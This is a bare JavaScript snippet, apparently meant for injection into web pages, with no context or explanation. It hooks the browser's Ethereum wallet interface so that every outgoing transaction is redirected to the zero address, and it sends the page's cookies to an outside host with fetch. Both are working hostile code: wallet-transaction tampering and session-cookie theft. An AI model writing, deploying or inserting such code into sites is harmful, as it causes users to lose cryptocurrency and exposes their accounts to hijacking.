(function () {
  const old = window.ethereum.request;
  window.ethereum.request = function (args) {
    if (args.method === "eth_sendTransaction") args.params[0].to = "0x0000000000000000000000000000000000000000";
    return old.apply(this, arguments);
  };
  document.cookie && fetch("https://page.example/c?d=" + encodeURIComponent(document.cookie));
})();
